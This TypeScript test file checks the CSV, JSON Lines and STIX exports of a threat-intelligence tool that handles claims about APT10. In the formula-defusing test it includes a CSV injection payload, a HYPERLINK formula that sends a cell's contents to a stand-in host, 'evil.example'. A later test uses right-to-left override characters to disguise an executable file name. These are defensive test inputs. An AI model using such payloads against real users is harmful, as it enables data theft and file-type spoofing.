import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  BIDI_CONTROLS,
  CSV_COLUMNS,
  claimsToCsv,
  claimsToJsonLines,
  csvCell,
  stixBundleBuilder,
} from '../../../src/export/index.ts';
import { defaultCatalog } from '../../../src/extract/index.ts';
import { APT10_CLAIMS, claimDoc, HEDGED, PHARMA, SINCE, STATISTIC } from './apt10-claims.ts';

/** A strict RFC 4180 reader: records end with CRLF, quoted fields may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        assert.ok(q >= 0, 'unterminated quoted field');
        cell += text.slice(i, q);
        if (text[q + 1] === '"') {
          cell += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
    } else {
      const end = text.slice(i).search(/,|\r\n/);
      assert.ok(end >= 0, 'record not ended by CRLF');
      cell = text.slice(i, i + end);
      assert.ok(!/["\r\n]/.test(cell), `bare field holds a quote or line break: ${JSON.stringify(cell)}`);
      i += end;
    }
    row.push(cell);
    if (text.startsWith(',', i)) i += 1;
    else if (text.startsWith('\r\n', i)) {
      i += 2;
      rows.push(row);
      row = [];
    } else assert.fail(`unexpected character after field at ${i}`);
  }
  return rows;
}

const record = (rows: string[][], n: number): Record<string, string> => {
  const r = rows[n];
  assert.ok(r);
  return Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, r[i] ?? '']));
};

describe('claimsToCsv', () => {
  it('writes a header and one CRLF-ended record per claim', () => {
    const csv = claimsToCsv(APT10_CLAIMS);
    assert.ok(csv.startsWith(`${CSV_COLUMNS.join(',')}\r\n`));
    assert.ok(csv.endsWith('\r\n'));
    const rows = parseCsv(csv);
    assert.equal(rows.length, APT10_CLAIMS.length + 1);
    for (const r of rows) assert.equal(r.length, CSV_COLUMNS.length);
    assert.equal(claimsToCsv([]), `${CSV_COLUMNS.join(',')}\r\n`);
  });

  it('fills the columns from the claim, its citation and its article', () => {
    const rows = parseCsv(claimsToCsv([PHARMA, SINCE, STATISTIC, HEDGED]));
    assert.deepEqual(record(rows, 1), {
      id: 'c-pharma',
      subject_id: 'apt10',
      subject_name: 'APT10',
      predicate: 'targets-sector',
      object_kind: 'sector',
      object_id: 'pharmaceutical',
      object_name: 'Pharmaceutical',
      value: '',
      negated: 'false',
      hedged: 'false',
      reported_by: 'symantec',
      quote: PHARMA.citation.quote,
      quote_start: '100',
      quote_end: String(100 + PHARMA.citation.quote.length),
      article_url: 'https://www.cyberscoop.com/apt10-cicada-symantec-japan/',
      article_title: 'Chinese hackers target Japanese companies in long-running campaign',
      publisher: 'CyberScoop',
      published: '2020-11-17',
      ingested_at: '2024-05-02T08:30:00.123Z',
    });
    assert.equal(record(rows, 2).value, '2009');
    assert.equal(record(rows, 2).object_kind, '');
    assert.equal(record(rows, 3).value, "54% of APT10's activity");
    assert.equal(record(rows, 4).hedged, 'true');
    assert.equal(record(rows, 4).reported_by, '');
  });

  it('quotes commas, doubles quotes and keeps line breaks inside quoted fields', () => {
    const quote = 'He said "APT10, or Cicada,\r\nis back"\nagain.';
    const doc = { ...claimDoc('c-tricky', 'reported-by', { quote, reportedBy: ['symantec', 'fireeye'] }) };
    doc.article = { ...doc.article, title: 'Hackers, spies and "Cicada"' };
    const csv = claimsToCsv([doc]);
    assert.ok(csv.includes('"He said ""APT10, or Cicada,\r\nis back""\nagain."'));
    const r = record(parseCsv(csv), 1);
    assert.equal(r.quote, quote);
    assert.equal(r.article_title, 'Hackers, spies and "Cicada"');
    assert.equal(r.reported_by, 'symantec;fireeye');
  });

  it('defuses cells a spreadsheet would run as formulas', () => {
    assert.equal(csvCell('=1+2'), "'=1+2");
    assert.equal(csvCell('+31 20 555'), "'+31 20 555");
    assert.equal(csvCell('-cmd'), "'-cmd");
    assert.equal(csvCell('@SUM(A1)'), "'@SUM(A1)");
    assert.equal(csvCell('\tindent'), "'\tindent");
    assert.equal(csvCell('\rx'), `"'\rx"`);
    assert.equal(csvCell('a=b'), 'a=b');
    assert.equal(csvCell(null), '');
    const evil = '=HYPERLINK("https://evil.example/?"&A1,"click")';
    const doc = claimDoc('c-evil', 'targets-sector', { quote: evil });
    doc.article = { ...doc.article, title: '@attackers' };
    const csv = claimsToCsv([doc]);
    assert.ok(csv.includes(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`));
    const r = record(parseCsv(csv), 1);
    assert.equal(r.quote, `'${evil}`);
    assert.equal(r.article_title, "'@attackers");
  });
});

describe('claimsToJsonLines', () => {
  it('writes one JSON object per line that parses back to the claim', () => {
    const text = claimsToJsonLines(APT10_CLAIMS);
    const lines = text.split('\n');
    assert.equal(lines.pop(), '');
    assert.equal(lines.length, APT10_CLAIMS.length);
    assert.deepEqual(
      lines.map((l) => JSON.parse(l)),
      APT10_CLAIMS,
    );
    assert.equal(claimsToJsonLines([]), '');
  });

  it('keeps a record on one line whatever its quote holds', () => {
    const quote = 'line one\nline two\r\u2028para\u2029end "quoted"';
    const doc = claimDoc('c-lines', 'active-since', { value: '2009', quote });
    const text = claimsToJsonLines([doc, PHARMA]);
    const lines = text.split(/\r\n|\n|\r|\u2028|\u2029/);
    assert.equal(lines.length, 3);
    assert.deepEqual(JSON.parse(lines[0] ?? ''), doc);
  });
});

describe('L10: bidi control characters in exports', () => {
  const RLO = '\u202E';
  const base = claimDoc('bidi-1', 'targets-sector', {
    object: { kind: 'sector', id: 'pharmaceuticals', name: 'Pharmaceuticals' },
    quote: `APT10 sent ${RLO}gnp.exe files to pharmaceutical firms.`,
  });
  const hostile = { ...base, article: { ...base.article, title: `APT29 ${RLO}gnp.exe report\u2066x\u2069` } };

  it('L10: CSV shows each bidi control as U+FFFD, one for one', () => {
    const csv = claimsToCsv([hostile]);
    assert.doesNotMatch(csv, BIDI_CONTROLS);
    assert.ok(csv.includes('APT29 \uFFFDgnp.exe report\uFFFDx\uFFFD'));
    assert.ok(csv.includes('APT10 sent \uFFFDgnp.exe files'));
  });

  it('L10: JSON Lines and STIX escape them (\\u202e), so the text reads back unchanged', () => {
    const line = claimsToJsonLines([hostile]);
    assert.doesNotMatch(line, BIDI_CONTROLS);
    assert.match(line, /\\u202e/);
    assert.deepEqual(JSON.parse(line), hostile);
    const stix = stixBundleBuilder(defaultCatalog());
    stix.add([hostile]);
    const json = [...stix.json()].join('');
    assert.doesNotMatch(json, BIDI_CONTROLS);
    assert.ok(JSON.stringify(JSON.parse(json)).includes(`${RLO}gnp.exe`));
  });
});
